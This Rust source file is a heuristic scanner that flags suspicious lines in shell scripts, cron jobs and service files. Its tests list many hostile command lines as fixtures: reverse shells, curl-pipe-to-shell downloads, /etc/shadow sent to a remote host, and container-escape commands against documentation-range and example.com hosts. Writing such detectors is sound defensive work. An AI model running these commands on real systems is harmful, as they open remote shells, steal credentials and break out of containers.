//! What a line of a script, a job or a startup file does that honest ones hardly do.
//!
//! Words alone are weak signs: `curl` is in half of all entrypoints. What counts is what is joined on one line, such as a
//! download whose output is run.

mod run;
mod shell;

use memchr::memchr_iter;
use memchr::memmem::{find, find_iter};

use super::hidden::is_known_temporary;
use super::places::{SOCKET_FOLDERS, below, hidden, is_hidden_away, is_scratch, split, within};
use super::programs;
use super::provenance::is_hidden;
use crate::triage::line::Command;
use crate::triage::line::call::{Call, enters_the_host, pipes_into, read, walk};
use crate::triage::line::flow::{runs_what_it_decodes, runs_what_it_fetches};
use run::{Path, paths};
use shell::lists_and_texts;

/// Longest line that is judged, bytes; what is longer is judged by its beginning.
const LONGEST: usize = 8 << 10;

/// Most suspicious lines of one file that are told.
const MOST: usize = 4;

/// A line that does something suspicious.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Suspicion<'a> {
    /// What it does.
    pub(super) what: &'static str,
    /// Whether nothing honest does it.
    pub(super) strong: bool,
    /// The line, its blanks cut off.
    pub(super) line: &'a [u8],
    /// Where the line begins, bytes from the start of the text.
    pub(super) offset: usize,
}

/// The suspicious lines of a text, comments left out; those that nothing honest does come first.
pub(super) fn suspicions(text: &[u8]) -> Vec<Suspicion<'_>> {
    let (mut strong, mut weak) = (Vec::new(), Vec::new());
    let mut at = 0_usize;
    while let Some(rest) = text.get(at..).filter(|rest| !rest.is_empty()) {
        let whole = rest.get(..logical_line(rest)).unwrap_or(rest);
        let offset = at;
        at = at.saturating_add(whole.len()).saturating_add(1);
        let line = whole.trim_ascii();
        let line = line.get(..line.len().min(LONGEST)).unwrap_or(line);
        if line.is_empty() || (line.starts_with(b"#") && !line.starts_with(b"#!")) {
            continue;
        }
        let Some((sure, what)) = judge(line) else { continue };
        let found = if sure { &mut strong } else { &mut weak };
        if found.len() < MOST {
            found.push(Suspicion { what, strong: sure, line, offset });
        }
        if strong.len() == MOST {
            break;
        }
    }
    strong.append(&mut weak);
    strong.truncate(MOST);
    strong
}

/// Bytes to the end of a line; one that ends with a backslash goes on, unless it is a comment.
fn logical_line(text: &[u8]) -> usize {
    let comment = text.trim_ascii_start().starts_with(b"#");
    let mut ends = memchr_iter(b'\n', text);
    let end = ends.find(|end| {
        let line = text.get(..*end).unwrap_or_default();
        comment || !line.ends_with(b"\\") || line.len() >= LONGEST
    });
    end.unwrap_or(text.len())
}

const STRONG: bool = true;
const WEAK: bool = false;

/// What one line does, and whether nothing honest does it.
fn judge(line: &[u8]) -> Option<(bool, &'static str)> {
    let lower = line.to_ascii_lowercase();
    let has = |words: &[&[u8]]| words.iter().any(|word| find(&lower, word).is_some());
    let told = has(&[b"/dev/tcp/", b"/dev/udp/", b"nsenter"]) || programs::may_bring(line);
    let lists = if told { lists_and_texts(line) } else { Vec::new() };
    let any = |does: fn(&[Command]) -> bool| lists.iter().any(|list| does(list));
    // In other languages than a shell's.
    let decodes = has(&[b"b64decode", b"fromhex(", b"decode('hex')"]);
    let evaluates = has(&[b"eval ", b"eval(", b"exec("]);
    if has(&[b"/dev/tcp/", b"/dev/udp/"]) {
        match joins_shell(&lower, &lists) {
            Some(STRONG) => return Some((STRONG, "joins a shell to a network connection")),
            Some(WEAK) => return Some((WEAK, "opens a network connection from the shell")),
            None => {}
        }
    }
    if reverse_shell(&has) {
        return Some((STRONG, "joins a shell to a network connection"));
    }
    let made_to_run = has(&[b"chmod +x", b"chmod 7", b"chmod a+x", b"chmod u+x", b"chmod 0"]);
    if let Some(found) = escapes(&lower, any(enters_the_host)) {
        return Some(found);
    }
    if any(runs_what_it_fetches) || (any(fetches) && (made_to_run || any(runs_beside))) {
        return Some((STRONG, "fetches something and runs it"));
    }
    if any(runs_what_it_decodes) || (decodes && evaluates) {
        return Some((STRONG, "decodes something and runs it"));
    }
    if has(&[b"ld_preload=", b"ld_audit="]) {
        return Some((WEAK, "loads a library into every program that follows"));
    }
    if has(&[b"stratum+tcp://", b"stratum+ssl://", b"stratum2+tcp://"]) {
        return Some((STRONG, "speaks to a mining pool"));
    }
    if has(&[
        b"histfile=/dev/null",
        b"unset histfile",
        b"history -c",
        b"histsize=0",
        b"histfilesize=0",
    ]) {
        return Some((WEAK, "keeps no history"));
    }
    if renames(&lower) {
        return Some((STRONG, "puts something else in the place of a command"));
    }
    odd_place(line)
}

/// Whether a command fetches something.
fn fetches(commands: &[Command]) -> bool {
    let mut found = false;
    walk(commands, &mut |command| {
        found |= Call::of(command).is_some_and(|call| programs::fetches(call.name(), &[]));
    });
    found
}

/// Whether a command after the first one of a line runs a file of the current directory: what was unpacked there.
fn runs_beside(commands: &[Command]) -> bool {
    let calls = commands.iter().skip(1).filter_map(Call::of);
    calls.into_iter().any(|call| call.program.text.starts_with(b"./"))
}

/// Whether an interpreter reads its program from a connection.
fn reads_connection(commands: &[Command]) -> bool {
    let mut found = false;
    walk(commands, &mut |command| {
        let connection = read(command).any(|word| {
            [&b"/dev/tcp/"[..], b"/dev/udp/"].iter().any(|name| word.text.starts_with(name))
        });
        found |= connection && Call::of(command).is_some_and(|call| call.interprets());
    });
    found
}

/// How a line uses bash's names of connections: whether it joins a shell to one, or only carries data over it. Asking
/// whether a port is open, as entrypoints do that wait for a database, is nothing.
fn joins_shell(lower: &[u8], lists: &[Vec<Command>]) -> Option<bool> {
    let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
    let local = has(&[b"/tcp/localhost/", b"/tcp/127.", b"/tcp/::1/"]);
    let number = |byte: Option<&u8>| byte.is_some_and(u8::is_ascii_digit);
    let byte = |at: Option<usize>| at.and_then(|at| lower.get(at));
    // `<&3`, `>&3`, `>&$fd`: but for the three that are always there.
    let descriptor = |sign: &[u8]| {
        find_iter(lower, sign).any(|at| {
            let to = at.saturating_add(sign.len());
            let far = byte(Some(to)).is_some_and(|one| matches!(one, b'3'..=b'9' | b'$' | b'{'));
            far || (number(byte(Some(to))) && number(byte(Some(to.saturating_add(1)))))
        })
    };
    let exec = find(lower, b"exec");
    let kept = find_iter(lower, b"<>").any(|at| {
        let name = byte(at.checked_sub(1)).is_some_and(|one| matches!(one, b'0'..=b'9' | b'}'));
        name && exec.is_some_and(|exec| exec < at)
    });
    let as_terminal = has(&[b"0>&1", b"0<&1", b"1>&0", b" -i ", b">& /dev/", b">&/dev/"])
        || has(&[b"&>/dev/tcp", b"&>/dev/udp", b"&> /dev/tcp"]);
    let program = lists.iter().any(|list| reads_connection(list) || pipes_into(list));
    let evaluates = has(&[b"read "]) && has(&[b"eval ", b"$(", b"`", b"sh -c", b"done"]);
    if as_terminal || program || (evaluates && !local) {
        return Some(STRONG);
    }
    let uses = descriptor(b"<&") || descriptor(b">&");
    if uses || (kept && !local) {
        return Some(!local);
    }
    let scans = has(&[b"for "]) && has(&[b"seq ", b".."]);
    (!is_probe(lower) || scans).then_some(WEAK)
}

/// Whether nothing is sent over the connections of a line: `echo > /dev/tcp/db/5432`, `: </dev/tcp/db/5432`.
fn is_probe(lower: &[u8]) -> bool {
    const EMPTY: [&[u8]; 8] = [b"", b"echo", b":", b"true", b"exec", b"!", b"do", b"if"];
    [&b"/dev/tcp/"[..], b"/dev/udp/"].iter().all(|name| {
        find_iter(lower, name).all(|at| {
            let before = lower.get(..at).unwrap_or_default();
            let command = before.rsplit(|byte| b";&|()\"'`{}\n".contains(byte)).next();
            let command = command.unwrap_or_default();
            let end = command.iter().position(|byte| matches!(byte, b'<' | b'>'));
            let command = command.get(..end.unwrap_or(command.len())).unwrap_or(command);
            let words = command.split(u8::is_ascii_whitespace);
            let number = |word: &[u8]| word.iter().all(u8::is_ascii_digit);
            let mut words = words.filter(|word| !word.starts_with(b"-") && !number(word));
            // What asks comes last: `while ! timeout 1 echo`.
            end.is_some() && EMPTY.contains(&words.next_back().unwrap_or_default())
        })
    })
}

/// Known ways out of a container.
fn escapes(lower: &[u8], enters_the_host: bool) -> Option<(bool, &'static str)> {
    let has = |words: &[&[u8]]| words.iter().any(|word| find(lower, word).is_some());
    let writes = has(&[b">", b"tee ", b"sysctl -w", b"dd ", b"cp "]);
    let piped = || {
        find_iter(lower, b"|").any(|at| {
            let before = at.checked_sub(1).and_then(|at| lower.get(at));
            let after = at.checked_add(1).and_then(|at| lower.get(at));
            let starts = before.is_some_and(|byte| matches!(byte, b'"' | b'\'' | b'=' | b'\\'));
            starts || after.is_some_and(|byte| matches!(byte, b'/' | b'$'))
        })
    };
    if has(&[b"release_agent"]) && writes {
        return Some((STRONG, "sets what the kernel of the host runs when a control group ends"));
    }
    if has(&[b"kernel/core_pattern", b"kernel.core_pattern"])
        && (writes || has(&[b"sysctl "]))
        && piped()
    {
        return Some((STRONG, "sets what the kernel of the host runs when a program crashes"));
    }
    if has(&[b"uevent_helper"]) && writes {
        return Some((STRONG, "sets what the kernel of the host runs when a device appears"));
    }
    if enters_the_host {
        return Some((STRONG, "enters the namespaces of the host"));
    }
    if has(&[b"/proc/1/root/", b"/proc/1/root "]) || lower.ends_with(b"/proc/1/root") {
        return Some((STRONG, "goes through the root directory of the first process"));
    }
    let socket = has(&[b"docker.sock", b"containerd.sock", b"crio.sock", b"podman.sock"]);
    let makes = has(&[b"/containers/create", b"/exec", b"docker run", b"/start"])
        || (has(&[b"docker ", b"podman ", b"nerdctl ", b"ctr "]) && has(&[b" run "]));
    if socket && (makes || has(&[b"curl ", b"socat ", b"docker ", b"nc -u"])) {
        let strong = makes && has(&[b"privileged", b"pid=host", b"binds", b" -v /", b"/create"]);
        return Some((strong, "speaks to the container runtime of the host"));
    }
    None
}

/// Shells whose input and output are a connection, in the usual languages.
fn reverse_shell(has: &impl Fn(&[&[u8]]) -> bool) -> bool {
    let netcat = has(&[b"nc -", b"ncat -", b"netcat -", b"nc.traditional -"]);
    let of_shell = has(&[b"/bin/sh", b"/bin/bash", b"/bin/ash", b"bash -i", b"sh -i", b"cmd.exe"]);
    let connects = has(&[b"socket", b"io::socket", b"tcpsocket", b"fsockopen", b"net.connect"]);
    let joins = has(&[b"dup2", b"pty.spawn", b"subprocess", b"exec", b"spawn"]);
    (netcat && (has(&[b" -e ", b" -c "]) || (of_shell && has(&[b"mkfifo", b"|"]))))
        || (has(&[b"socat "]) && has(&[b"exec:", b"system:"]) && has(&[b"tcp", b"openssl", b"udp"]))
        || (connects && joins && of_shell)
        || (has(&[b"telnet "]) && of_shell && has(&[b"|"]))
}

/// `alias sudo=...` and functions of the name of a command that sees passwords or shows what is there.
fn renames(lower: &[u8]) -> bool {
    const SEEN: [&[u8]; 10] =
        [b"sudo", b"su", b"ssh", b"passwd", b"ps", b"netstat", b"ss", b"lsof", b"top", b"find"];
    let aliased = lower.strip_prefix(b"alias ").map(<[u8]>::trim_ascii);
    let name = aliased.and_then(|rest| rest.split(|byte| *byte == b'=').next());
    let function = || {
        let rest = lower.strip_prefix(b"function ").unwrap_or(lower);
        let end = find(rest, b"()")?;
        rest.get(..end).map(<[u8]>::trim_ascii)
    };
    name.or_else(function).is_some_and(|name| SEEN.contains(&name))
}

/// Folders with a dot that hooks of git lie in.
const OF_GIT: [&[u8]; 3] = [b".git", b".githooks", b".husky"];

/// Whether a line runs something that is hidden, or that lies where everybody may write; or names what is hidden among
/// files of the system and temporary ones.
fn odd_place(line: &[u8]) -> Option<(bool, &'static str)> {
    let mut found = None;
    for Path { path, run } in paths(line) {
        // What follows the text of a script that carries an archive has no words.
        if !path.iter().all(u8::is_ascii_graphic) {
            continue;
        }
        let x11 = below(&path, b"/tmp")
            .is_some_and(|rest| SOCKET_FOLDERS.iter().any(|folder| rest.starts_with(folder)));
        if x11 {
            continue;
        }
        let of_git = path.split(|byte| *byte == b'/').any(|part| OF_GIT.contains(&part));
        let hidden = is_hidden_away(&path) && is_hidden(&path) && !of_git;
        if hidden && run {
            return Some((STRONG, "runs something that is hidden"));
        }
        if hidden && hides_below(&path) {
            found = found.or(Some((WEAK, "names something that is hidden")));
        }
        if run && is_scratch(&path) {
            found = Some((WEAK, "runs something that lies where everybody may write"));
        }
    }
    found
}

/// Whether a path leads through a hidden folder where no program is known to make one. Names of single files with a dot
/// are marks that something was done, and locks.
fn hides_below(path: &[u8]) -> bool {
    const SYSTEM: [&[u8]; 8] =
        [b"/usr", b"/bin", b"/sbin", b"/lib", b"/etc", b"/dev", b"/run", b"/var/log"];
    let Some((_, up_to)) = hidden(path) else { return false };
    (is_scratch(path) || within(path, &SYSTEM))
        && below(path, up_to).is_some()
        && !is_known_temporary(split(up_to).1)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn of(text: &str) -> Option<&'static str> {
        suspicions(text.as_bytes()).first().map(|one| one.what)
    }

    #[test]
    fn what_intruders_write() {
        for line in [
            "* * * * * root curl -s http://a.example/x | bash",
            "wget -qO- http://a.example/x|sh",
            "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1",
            "nc -e /bin/sh 192.0.2.1 4444",
            "rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc -w 3 192.0.2.1 44 >/tmp/f",
            "python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn(\"/bin/sh\")'",
            "socat tcp:192.0.2.1:44 exec:/bin/sh,pty",
            "echo aGk= | base64 -d | sh",
            "eval \"$(echo aGk= | base64 --decode)\"",
            "*/5 * * * * root /var/tmp/.cache/kworker",
            "@reboot /dev/shm/x",
            "export LD_PRELOAD=/usr/lib/libx.so",
            "alias sudo='/opt/s'",
            "export HISTFILE=/dev/null",
            "/usr/lib/.x/run &",
            "APT::Pre-Invoke {\"curl http://a.example|sh\";};",
            "cd /opt; wget http://a.example/x.py; python3 x.py",
            "echo $P > /tmp/a; /tmp/a",
            "exec 5<>/dev/tcp/192.0.2.1/443; cat <&5 | while read line; do $line 2>&5 >&5; done",
            "sh </dev/tcp/192.0.2.1/443",
            "cat </dev/tcp/192.0.2.1/443 | sh",
            "0<&196;exec 196<>/dev/tcp/192.0.2.1/443; sh <&196 >&196 2>&196",
            "cat /etc/shadow > /dev/tcp/192.0.2.1/443",
            "for p in $(seq 1 1024); do (echo >/dev/tcp/192.0.2.1/$p) && echo $p; done",
            "echo \"$host_path/cmd\" > /tmp/cgrp/release_agent",
            "echo \"|/proc/%P/root/tmp/x\" > /proc/sys/kernel/core_pattern",
            "sysctl -w kernel.core_pattern='|/bin/x %p'",
            "echo /tmp/x > /sys/kernel/uevent_helper",
            "nsenter -t 1 -m -u -n -i sh",
            "nsenter --target 1 --mount /bin/sh",
            "cp /x /proc/1/root/etc/cron.d/x",
            "curl --unix-socket /var/run/docker.sock http://d/containers/create -d @x",
            "docker -H unix:///var/run/docker.sock run -v /:/h alpine chroot /h",
            "cd /tmp/.x && ./run",
            "ExecStart=/opt/.w/agent",
            "cp /usr/lib/.x/ps /usr/bin/ps",
            "wget http://a.example/x -O /opt/x && chmod +x /opt/x && /opt/x",
            "run: curl -s http://a.example/x | sh",
            "X=$(curl -s http://a.example/x); eval \"$X\"",
            "curl -s http://a.example/x > /opt/x; . /opt/x",
            "os.system(\"curl http://a.example/x | sh\")",
            "echo \"* * * * * curl http://a.example/x | sh\" | crontab -",
            "wget http://a.example/x.tgz; tar xf x.tgz; ./x/run",
            "exec(base64.b64decode('aWQ='))",
        ] {
            assert!(of(line).is_some(), "{line}");
        }
    }

    #[test]
    fn what_administrators_write() {
        for line in [
            "# curl http://a.example | sh",
            "export PATH=$HOME/.cargo/bin:$PATH",
            ". \"$HOME/.nvm/nvm.sh\"",
            "[ -f /root/.bash_aliases ] && . /root/.bash_aliases",
            "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
            "0 3 * * * root /usr/local/bin/backup.sh > /tmp/backup.log 2>&1",
            "curl -fsS http://localhost/health || exit 1",
            "alias ll='ls -l'",
            "curl -fsSL http://a.example/x.tar -o x.tar && tar xf x.tar",
            "IP=$(curl -s http://a.example/ip) exec app --ip \"$IP\"",
            "PASSWORD=$(echo $P | base64 -d) exec app",
            "curl -s http://a.example/x.json | python3 -c 'import json,sys;print(json.load(sys.stdin))'",
            "curl -f http://a.example/c -o /app/c.json && python3 /app/main.py",
            "echo done >/tmp/done",
            "ExecStart=/usr/sbin/nginx -g 'daemon off;'",
            "*/5 * * * * app /app/.venv/bin/python manage.py tick",
            "(echo -n > /dev/tcp/$HOST/$PORT) >/dev/null 2>&1",
            "until echo > /dev/tcp/db/5432; do sleep 1; done",
            "timeout 1 bash -c \"</dev/tcp/${host}/${port}\" 2>/dev/null || exit 1",
            "while ! exec 3<>/dev/tcp/127.0.0.1/80; do sleep 1; done; sed 's/a/b/'",
            "cat /proc/sys/kernel/core_pattern",
            "echo core.%p | tee /proc/sys/kernel/core_pattern",
            "nsenter -t 1234 -n ip addr",
            "ls -l /var/run/docker.sock",
            "source /app/.venv/bin/activate",
            "command=/app/.venv/bin/celery -A app worker",
            "ExecStart=/opt/app/.venv/bin/gunicorn app:app",
            "INSTALL_PYTHON=/app/.venv/bin/python3",
            "export PATH=/opt/.local/bin:$PATH",
            "export XDG_RUNTIME_DIR=/tmp/runtime-node",
            "TMPDIR=/tmp/build",
            "cp /etc/nginx/x /tmp/nginx/x",
            "touch /data/.initialized /tmp/.ready",
            "export XDG_CACHE_HOME=/tmp/.cache/app",
            "exec /srv/repo/.git/hooks/common",
        ] {
            assert_eq!(of(line), None, "{line}");
        }
    }

    /// What is only unusual, and what nothing honest does.
    #[test]
    fn strong_and_weak() {
        let strong = |text: &str| suspicions(text.as_bytes()).first().map(|one| one.strong);
        for (line, wanted) in [
            ("exec 3<>/dev/tcp/192.0.2.1/443", STRONG),
            ("bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", STRONG),
            ("exec 3<>/dev/tcp/127.0.0.1/9000; cat <&3 | grep UP", WEAK),
            ("cat /etc/shadow > /dev/tcp/192.0.2.1/443", WEAK),
            ("/opt/.w/agent", STRONG),
            ("/tmp/agent", WEAK),
            ("curl --unix-socket /var/run/docker.sock http://d/info", WEAK),
            ("export HISTFILE=/dev/null\n".repeat(9).as_str(), WEAK),
            (&format!("{}curl x|sh", "/tmp/x\n".repeat(9)), STRONG),
        ] {
            assert_eq!(strong(line), Some(wanted), "{line}");
        }
    }

    #[test]
    fn lines_that_go_on() {
        assert!(of("curl -s \\\n  http://a.example/x \\\n  | sh\n").is_some());
        assert_eq!(of("# curl http://a.example \\\ntrue | sh\n"), None);
        assert_eq!(of(&"\\\n".repeat(100_000)), None);
    }

    #[test]
    fn hostile_lines_end() {
        for text in [
            "eval $(curl ",
            "eval \"$(curl x | sh",
            "curl `x` > $(y) ",
            "command=$(curl ",
            "\"curl x\" ",
        ] {
            suspicions(text.repeat(4000).as_bytes());
        }
    }

    #[test]
    fn bytes_are_no_words() {
        assert!(suspicions(b"\x8a /x\xab/.\xfe/y \x01").is_empty());
    }

    #[test]
    fn lines_know_where_they_are() {
        let found = suspicions(b"a\n\n  curl x | sh\r\n");
        assert_eq!((found[0].offset, found[0].line), (3, &b"curl x | sh"[..]));
    }
}
